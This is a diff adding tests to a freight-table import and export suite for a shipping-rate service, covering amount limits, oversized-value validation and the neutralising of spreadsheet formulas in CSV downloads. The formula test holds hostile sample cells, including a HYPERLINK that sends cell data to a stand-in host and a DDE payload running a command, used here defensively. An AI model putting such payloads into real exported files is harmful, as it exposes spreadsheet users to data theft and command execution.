@@ -182,6 +182,95 @@ describe.each(testDatabaseTargets())('freight tables on $dialect', (target) => {
     expect(rows.body).toContain(`;"${name.replaceAll('"', '""')}";0;1000;`);
   });
 
+  it('spec-notes Q8, Q9: a table at the largest amount quotes it as a number; a cart that would price past it finds no rate, never null or 1e20', async () => {
+    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
+    await addProducts(platform, tenant, [...PRODUCTS, { sku: 'HEAVY', price_cents: 100, weight_g: 2_000_000 }]);
+    // 0–1 kg: R$ 100,000,000,000.00 flat, the largest amount. Above: R$ 1 + 100,000,000,000 per kg over 1 kg.
+    const csv = vtexCsv([
+      '01000000;01999999;;0;1000;100000000000;0;0;;365;BRA;0',
+      '01000000;01999999;;1001;1000000000;1;0;100000000000;1000000000000;1;BRA;0',
+    ]);
+    expect((await putTable(platform, tenant, 'dear', csv, { name: 'Dear' })).statusCode).toBe(201);
+    const largest = await quote(platform, tenant, '01310100', [{ sku: 'STD', quantity: 1 }]);
+    expect(shown(largest)).toEqual([['dear', 100_000_000_000, 365, ['fastest', 'cheapest']]]);
+    const past = await quote(platform, tenant, '01310100', [{ sku: 'HEAVY', quantity: 1 }]);
+    expect(past.available).toBe(false);
+    expect(past.reason?.code).toBe('no_freight_rate');
+
+    const factor = await putTable(platform, tenant, 'dear', csv, { cubic_weight_factor: '9'.repeat(401) });
+    expect(factor.statusCode).toBe(422);
+    expect(factor.json().details).toEqual([
+      expect.objectContaining({ field: 'cubic_weight_factor', location: 'query', message: expect.stringContaining('at most') }),
+    ]);
+  });
+
+  it('spec-notes Q8: the download neutralises text cells a spreadsheet would run as formulas, and imports again to the same table', async () => {
+    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
+    await addProducts(platform, tenant, PRODUCTS);
+    const hostile = [
+      ['=HYPERLINK("http://evil.example/?"&A1,"Clique")', 'BRA'],
+      ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
+      ['-2+3', '=1+1'],
+      ['Zona norte', 'BRA'],
+    ];
+    const cell = (text: string) => (/[";]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
+    const csv = vtexCsv(
+      hostile.map(
+        ([polygon, country], i) =>
+          `0${i + 1}000000;0${i + 1}999999;${cell(polygon as string)};0;1000;10,5;1;2;;2;${cell(country as string)};0`,
+      ),
+    );
+    expect((await putTable(platform, tenant, 'hostile', csv, { name: 'Hostile' })).statusCode).toBe(201);
+    const download = async (tableId: string) => {
+      const res = await platform.app.inject({
+        method: 'GET',
+        url: tableUrl(tenant, tableId),
+        headers: { ...admin, accept: 'text/csv' },
+      });
+      expect(res.statusCode).toBe(200);
+      return res.body;
+    };
+    const first = await download('hostile');
+    expect(first.split('\r\n')).toEqual([
+      VTEX_HEADER,
+      `01000000;01999999;"'=HYPERLINK(""http://evil.example/?""&A1,""Clique"")";0;1000;10.5;1;2;;2;BRA;0`,
+      `02000000;02999999;"'+cmd|' /C calc'!A0";0;1000;10.5;1;2;;2;"'@SUM(1+1)";0`,
+      `03000000;03999999;"'-2+3";0;1000;10.5;1;2;;2;"'=1+1";0`,
+      '04000000;04999999;Zona norte;0;1000;10.5;1;2;;2;BRA;0',
+      '',
+    ]);
+    // No cell of the download begins with a formula character, once its CSV quotes are taken off.
+    const cells = first
+      .split('\r\n')
+      .flatMap((line) => line.split(';'))
+      .map((c) => c.replace(/^"/, ''));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+
+    // Round trip: the download imported as a table holds the same rows and downloads alike.
+    expect((await putTable(platform, tenant, 'again', first, { name: 'Again' })).statusCode).toBe(201);
+    expect(await download('again')).toBe(first);
+    const stored = async (tableId: string) => {
+      const table = await platform.database.db
+        .selectFrom('freight_tables')
+        .select('version_key')
+        .where('owner', '=', tenant)
+        .where('table_id', '=', tableId)
+        .executeTakeFirstOrThrow();
+      return platform.database.db
+        .selectFrom('freight_rows')
+        .select(['line_no', 'zip_start', 'zip_end', 'polygon_name', 'country', 'absolute_money_cost', 'time_cost'])
+        .where('version_key', '=', table.version_key)
+        .orderBy('line_no')
+        .execute();
+    };
+    const rows = await stored('hostile');
+    expect(rows.map((r) => [r.polygon_name, r.country])).toEqual(hostile);
+    expect(await stored('again')).toEqual(rows);
+    const priced = await quote(platform, tenant, '03500000', [{ sku: 'STD', quantity: 1 }]);
+    // 10,50 + 1% × 100.00 + 2 × 0.4 kg = 12.30 in 2 days, from either table (Q5 shows one of the two equal options).
+    expect(shown(priced).map(([, price, days]) => [price, days])).toEqual([[12.3, 2]]);
+  });
+
   it('spec-notes Q8: while a table is being imported (by any process: the claim is in the database) a second import is refused with 409, and the first completes', async () => {
     const tenant = await storeWithSettings(platform, { method: 'freight_table' });
     const versions = () =>
@@ -282,6 +371,22 @@ describe.each(testDatabaseTargets())('freight tables on $dialect', (target) => {
         vtexCsv([good, '01500000;02500000;;500;3000;10;0;0;;2;BRA;0']),
         ['lines.3.ZipCodeStart'],
       ],
+      [
+        'a cost of 401 digits',
+        vtexCsv([good, `02000000;02999999;;0;1000;${'9'.repeat(401)};0;0;;2;BRA;0`]),
+        ['lines.3.AbsoluteMoneyCost'],
+      ],
+      [
+        'a cost of 20 digits',
+        vtexCsv([good, '02000000;02999999;;0;1000;99999999999999999999;0;0;;2;BRA;0']),
+        ['lines.3.AbsoluteMoneyCost'],
+      ],
+      [
+        'a weight, a price per kg and a MaxVolume past their maximums',
+        vtexCsv([good, '02000000;02999999;;0;1000000001;10;0;100000000001;1000000000001;2;BRA;0']),
+        ['lines.3.WeightEnd', 'lines.3.PriceByExtraWeight', 'lines.3.MaxVolume'],
+      ],
+      ['a TimeCost past 365 days', vtexCsv([good, '02000000;02999999;;0;1000;10;0;0;;366.00:00:00;BRA;0']), ['lines.3.TimeCost']],
       [
         'a TimeCost that is not a duration',
         vtexCsv([good, '02000000;02999999;;0;1000;10;0;0;;two days;BRA;0']),
